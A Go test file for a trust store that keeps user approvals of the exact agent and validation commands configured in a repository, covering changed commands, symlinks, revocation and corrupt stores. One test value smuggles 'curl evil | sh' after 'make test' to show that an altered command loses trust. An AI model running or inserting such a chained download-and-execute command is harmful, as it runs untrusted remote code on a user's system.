package trust

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"
)

func TestApproveExactCommandsOnly(t *testing.T) {
	s := Open(t.TempDir())
	repo := t.TempDir()
	cmds := map[string]string{"agent_cmd": "claude -p", "validate": "make test"}
	if ok, err := s.Trusted(repo, cmds); ok || err != nil {
		t.Fatalf("before approval: %v, %v", ok, err)
	}
	if err := s.Approve(repo, cmds, time.Now()); err != nil {
		t.Fatal(err)
	}
	if ok, _ := s.Trusted(repo, cmds); !ok {
		t.Error("not trusted after approval")
	}
	changed := map[string]string{"agent_cmd": "claude -p", "validate": "make test; curl evil | sh"}
	if ok, _ := s.Trusted(repo, changed); ok {
		t.Error("a changed command is trusted")
	}
	added := map[string]string{"agent_cmd": "claude -p", "validate": "make test", "hooks.on_complete": "x"}
	if ok, _ := s.Trusted(repo, added); ok {
		t.Error("an added command is trusted")
	}
	if ok, _ := s.Trusted(t.TempDir(), cmds); ok {
		t.Error("another repository with the same commands is trusted")
	}
	if ok, _ := s.Trusted(repo, nil); !ok {
		t.Error("a repository that configures no commands needs no approval")
	}
}

func TestSymlinkedPathIsTheSameRepository(t *testing.T) {
	s := Open(t.TempDir())
	repo := t.TempDir()
	link := filepath.Join(t.TempDir(), "link")
	os.Symlink(repo, link)
	cmds := map[string]string{"validate": "go test ./..."}
	s.Approve(link, cmds, time.Now())
	if ok, _ := s.Trusted(repo+"/", cmds); !ok {
		t.Error("approval through a symlink does not count for the real path")
	}
}

func TestRevokeAndReapprove(t *testing.T) {
	s := Open(t.TempDir())
	repo := t.TempDir()
	cmds := map[string]string{"agent": "claude"}
	s.Approve(repo, cmds, time.Now())
	s.Approve(repo, map[string]string{"agent": "codex"}, time.Now())
	if ok, _ := s.Trusted(repo, cmds); ok {
		t.Error("the replaced approval still counts")
	}
	if gone, err := s.Revoke(repo); !gone || err != nil {
		t.Fatalf("Revoke = %v, %v", gone, err)
	}
	if ok, _ := s.Trusted(repo, map[string]string{"agent": "codex"}); ok {
		t.Error("trusted after revoke")
	}
	if gone, _ := s.Revoke(repo); gone {
		t.Error("revoked twice")
	}
}

func TestCorruptStoreTrustsNothingAndIsKept(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, FileName), []byte("[[repo]\n"), 0o600)
	s := Open(dir)
	var corrupt *CorruptError
	if ok, err := s.Trusted(t.TempDir(), map[string]string{"agent": "x"}); ok || !errors.As(err, &corrupt) {
		t.Fatalf("Trusted = %v, %v", ok, err)
	}
	if err := s.Approve(t.TempDir(), map[string]string{"agent": "x"}, time.Now()); !errors.As(err, &corrupt) {
		t.Fatalf("Approve over a corrupt store: %v", err)
	}
	if data, _ := os.ReadFile(s.Path()); string(data) != "[[repo]\n" {
		t.Errorf("the corrupt store was rewritten: %q", data)
	}
}

func TestNoHomeTrustsNothing(t *testing.T) {
	s := Open("")
	if ok, err := s.Trusted(t.TempDir(), map[string]string{"agent": "x"}); ok || !errors.Is(err, ErrNoStore) {
		t.Errorf("Trusted = %v, %v", ok, err)
	}
	if err := s.Approve(t.TempDir(), map[string]string{"agent": "x"}, time.Now()); !errors.Is(err, ErrNoStore) {
		t.Errorf("Approve = %v", err)
	}
}

func TestRevokeWithinRemovesOnlyThatDirectorysFiles(t *testing.T) {
	s := Open(t.TempDir())
	repo, other := t.TempDir(), t.TempDir()
	cmds := map[string]string{"validate": "make test"}
	for _, p := range []string{repo, filepath.Join(repo, ".ralph/workflows/a.toml"), filepath.Join(repo, ".ralph/workflows/b.toml"),
		filepath.Join(repo, ".ralph/workflowsx.toml"), filepath.Join(other, ".ralph/workflows/a.toml")} {
		if err := s.Approve(p, cmds, time.Now()); err != nil {
			t.Fatal(err)
		}
	}
	gone, err := s.RevokeWithin(repo, ".ralph/workflows")
	if err != nil || len(gone) != 2 || gone[0] != ".ralph/workflows/a.toml" || gone[1] != ".ralph/workflows/b.toml" {
		t.Fatalf("RevokeWithin = %v, %v", gone, err)
	}
	for p, want := range map[string]bool{repo: true, filepath.Join(repo, ".ralph/workflows/a.toml"): false,
		filepath.Join(repo, ".ralph/workflowsx.toml"): true, filepath.Join(other, ".ralph/workflows/a.toml"): true} {
		if ok, _ := s.Trusted(p, cmds); ok != want {
			t.Errorf("Trusted(%s) = %v, want %v", p, ok, want)
		}
	}
	if gone, err := s.RevokeWithin(repo, ".ralph/workflows"); gone != nil || err != nil {
		t.Errorf("again: %v, %v", gone, err)
	}
}
